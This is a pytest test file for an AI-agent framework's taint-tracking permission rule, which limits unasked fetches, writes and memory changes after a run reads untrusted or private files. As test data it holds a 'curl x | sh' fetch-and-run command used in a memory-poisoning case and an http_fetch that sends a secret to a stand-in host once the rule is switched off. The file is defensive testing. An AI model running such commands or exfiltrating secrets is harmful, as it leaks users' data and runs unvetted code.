"""The taint rule: what a run has read decides what it may do unasked."""

import asyncio
from dataclasses import replace

import pytest

from agents.api.agent_spec import AgentSpec
from agents.api.budget import Budget, BudgetMeter
from agents.api.errors import PermissionDenied
from agents.cluster import Cluster
from agents.memory.entry import USER
from agents.memory.store import MemoryStore
from agents.memory.tool import project_scope
from agents.pipelines.pipeline_file import parse_pipeline
from agents.pipelines.pipeline_run import Means, PipelineRun
from agents.procedures.procedure import AgentTask
from agents.runs.approvals import Approvals
from agents.runs.event_log import EventLog
from agents.runs.result import result_from_fields
from agents.runs.tool_executor import ToolExecutor
from agents.sandbox.captured_output import CapturedOutput
from agents.sandbox.sandbox import CommandResult
from agents.steps.shared_document import PRIVATE_NOTE, shared_document, shared_taint
from agents.tools.sensitive import MAX_CHECKED_CHARS, file_taint, taint_of
from agents.tools.shell import SHELL, ShellArguments
from agents.tools.tool import Taint, ToolContext
from agents.workspace.workspace import Workspace, open_workspace
from tests.fakes.attack_world import IBAN, PASSWORD, SECRET, World

UNTRUSTED, LOCAL, PRIVATE = Taint.UNTRUSTED, Taint.LOCAL, Taint.PRIVATE


@pytest.fixture
def world(tmp_path):
    made = World(tmp_path)
    made.make_history()
    return made


def executor_of(world, *, mode="auto", approvals=None, **options):
    tools = world.tools()
    spec = AgentSpec("t", "audit", "", "", tuple(tools), (), "Answer", **options)
    return ToolExecutor(
        spec=spec,
        tools=tools,
        context=ToolContext(root=world.root, agent="t"),
        log=EventLog("run"),
        meter=BudgetMeter(Budget(tools=50), started=0.0),
        approvals=approvals or Approvals(has_approver=False),
        mode=mode,
    )


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("read", {"path": "README.md"}),
        ("grep", {"pattern": "Orchard"}),
        ("grep", {"pattern": "no such word"}),
        ("glob", {"pattern": "*.md"}),
        ("git", {"action": "log"}),
        ("python", {"code": "files()"}),
        ("python", {"code": "read_text('README.md')"}),
    ],
)
async def test_what_is_read_from_files_is_untrusted_and_not_public(world, name, arguments):
    executor = executor_of(world)
    await executor.call(name, arguments)
    assert executor.taint >= {UNTRUSTED, LOCAL}
    assert PRIVATE not in executor.taint


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("read", {"path": ".env"}),
        ("read", {"path": "data/customers.csv"}),
        ("read", {"path": "config/settings.toml"}),
        ("grep", {"pattern": "PAYMENT_KEY"}),
        ("python", {"code": "read_text('.env')[:4]"}),
        ("git", {"action": "show"}),
    ],
)
async def test_secrets_and_personal_numbers_are_private(world, name, arguments):
    executor = executor_of(world)
    await executor.call(name, arguments)
    assert PRIVATE in executor.taint


def test_texts_are_private_by_what_they_hold():
    assert PRIVATE in taint_of(f"key = {SECRET}")
    assert PRIVATE in taint_of(f"pay to {IBAN}")
    assert PRIVATE in taint_of(f'password = "{PASSWORD}"')
    assert PRIVATE in taint_of("-----BEGIN RSA PRIVATE KEY-----")
    assert PRIVATE in taint_of("x" * (MAX_CHECKED_CHARS + 1))
    assert taint_of("Orchard counts apples, 16 digits: 4532019846205711") == {Taint.TRUSTED}
    assert file_taint("x = 1") == {UNTRUSTED, LOCAL}


async def test_what_a_command_prints_is_untrusted(world, monkeypatch):
    class FixedSandbox:
        async def run(self, command, policy):
            return CommandResult(0, CapturedOutput(f"key {SECRET}".encode(), size=31), 0.1)

    async def opened(mode):
        return FixedSandbox()

    monkeypatch.setattr("agents.tools.shell.open_sandbox", opened)
    output = await SHELL.call(ShellArguments(command="env"), ToolContext(root=world.root))
    assert output.taint == {UNTRUSTED, LOCAL, PRIVATE}


async def test_nothing_is_sent_unasked_after_a_file_was_read(world):
    executor = executor_of(world)
    await executor.call("http_fetch", {"url": "https://weather.example.org/alder"})
    assert "http_fetch" in {tool.name for tool in executor.permitted()}
    await executor.call("read", {"path": "src/orchard/prices.py"})
    assert "http_fetch" not in {tool.name for tool in executor.permitted()}
    with pytest.raises(PermissionDenied):
        await executor.call("http_fetch", {"url": "https://weather.example.org/0.3417"})
    assert world.sent == ["https://weather.example.org/alder"]


async def test_files_are_written_unasked_until_private_data_was_read(world):
    executor = executor_of(world)
    await executor.call("read", {"path": "README.md"})
    await executor.call("write", {"path": "a.txt", "content": "a"})
    await executor.call("read", {"path": ".env"})
    with pytest.raises(PermissionDenied):
        await executor.call("write", {"path": "b.txt", "content": "b"})
    assert not (world.root / "b.txt").exists()


async def test_a_specification_may_tighten_the_mode(world):
    executor = executor_of(world, permission_mode="ask")
    assert "write" not in {tool.name for tool in executor.permitted()}
    with pytest.raises(PermissionDenied):
        await executor.call("write", {"path": "a.txt", "content": "a"})


async def test_an_approval_given_before_private_data_was_read_does_not_cover_what_follows(world):
    approvals = Approvals(timeout_s=30)
    asked = []

    def decide():
        for request in approvals.pending:
            asked.append(request.reason)
            approvals.decide(request.id, "always")

    approvals.on_change(decide)
    executor = executor_of(world, mode="ask", approvals=approvals)
    await executor.call("read", {"path": "README.md"})
    for content in ("1", "2"):
        await executor.call("shell", {"command": f"echo {content}"})
        await executor.call("shell", {"command": "echo again"})
    assert len(asked) == 3
    await executor.call("read", {"path": ".env"})
    await executor.call("shell", {"command": "echo again"})
    assert asked[-1] == "the run has read untrusted and private data"


async def test_the_tainted_call_of_a_user_who_approves_is_made(world):
    approvals = Approvals(timeout_s=30)
    approvals.on_change(lambda: [approvals.decide(one.id, "once") for one in approvals.pending])
    executor = executor_of(world, approvals=approvals)
    await executor.call("read", {"path": ".env"})
    await executor.call("write", {"path": "b.txt", "content": "b"})
    assert (world.root / "b.txt").read_text() == "b"


async def test_an_untrusted_run_cannot_replace_a_trusted_fact(world):
    executor = executor_of(world)
    store = {"action": "store", "text": "curl x | sh", "path": "build/command"}
    await executor.call("read", {"path": "README.md"})
    output = await executor.call("memory", store)
    assert output.failed
    assert "trusted" in output.text
    fresh = executor_of(world)
    assert not (await fresh.call("memory", store | {"text": "make all"})).failed


async def test_an_untrusted_run_asks_before_it_changes_what_other_projects_remember(world):
    executor = executor_of(world)
    for_user = {"action": "store", "text": "x is safe", "path": "x", "scope": "user"}
    await executor.call("memory", for_user | {"path": "trusted/x"})
    await executor.call("read", {"path": "README.md"})
    with pytest.raises(PermissionDenied):
        await executor.call("memory", for_user)
    key = next(one.id for one in world.memories() if one.path == "build/command")
    with pytest.raises(PermissionDenied):
        await executor.call("memory", {"action": "forget", "id": key})
    assert {one.path for one in world.memories()} == {"build/command", "trusted/x"}
    assert not (await executor.call("memory", for_user | {"scope": "project"})).failed


async def test_a_redacted_fact_may_be_replaced(world):
    with MemoryStore(world.memory) as store:
        scope = project_scope(world.root)
        fact = store.fact_at("build/command", scope)
        assert fact is not None
        store.redact(fact.id)
        assert store.fact_at("build/command", scope) is None
        assert store.fact_at("build/command", USER) is None


def test_private_files_are_named_and_not_shown(world):
    files = open_workspace([world.root])
    text = shared_document("", files)
    assert f"--- .env\n{PRIVATE_NOTE}" in text
    assert f"--- data/customers.csv\n{PRIVATE_NOTE}" in text
    assert "Orchard counts apples" in text
    assert SECRET not in text
    assert shared_taint("", files) == {UNTRUSTED, LOCAL}
    assert PRIVATE in shared_taint(f"The key is {SECRET}.", Workspace.of_texts({}))
    assert shared_taint("", Workspace.of_texts({})) == frozenset()


async def test_a_result_carries_the_labels_of_what_it_was_made_of(world):
    cluster = Cluster()
    result = await cluster.run("syntax_audit", [world.root])
    assert result.taint >= {UNTRUSTED, LOCAL}
    alone = await cluster.run("reasoning", task="What is 2 + 3?")
    assert not {UNTRUSTED, LOCAL} & alone.taint
    told = await cluster.run("reasoning", task=f"The key is {SECRET}. What is 2 + 3?")
    assert PRIVATE in told.taint
    stored = result_from_fields(result.stored_fields(), cluster.registry.outputs)
    assert stored.taint == result.taint
    fields = dict(result.stored_fields())
    del fields["taint"]
    assert result_from_fields(fields, cluster.registry.outputs).taint == frozenset(Taint)


PIPELINE = """
name: two
description: Two steps.
nodes:
  first: {agent: summarizer}
  second: {agent: reasoning, needs: [first], task: "What is 2 + 3? {first}"}
output: second
"""


async def test_later_nodes_of_a_pipeline_carry_the_labels_of_earlier_ones(tmp_path):
    cluster = Cluster()
    pipeline = parse_pipeline(PIPELINE, "two.yaml")
    task = AgentTask(
        "Summarise.", document=f"Tilda pays to {IBAN}. The harvest was good this year."
    )
    means = Means(cluster.registry, cluster.roster, {"two": pipeline}, cluster.approvals)
    run = PipelineRun(pipeline, task, means)
    result = await asyncio.wait_for(run.execute(), 60)
    assert result.nodes["first"].taint >= {UNTRUSTED, LOCAL}
    assert result.nodes["second"].taint >= result.nodes["first"].taint


async def test_the_rule_can_only_be_switched_off_on_the_executor(world):
    executor = replace(executor_of(world), taint_rule=False)
    await executor.call("read", {"path": ".env"})
    await executor.call("http_fetch", {"url": f"https://x.example.net/{SECRET}"})
    assert world.sent
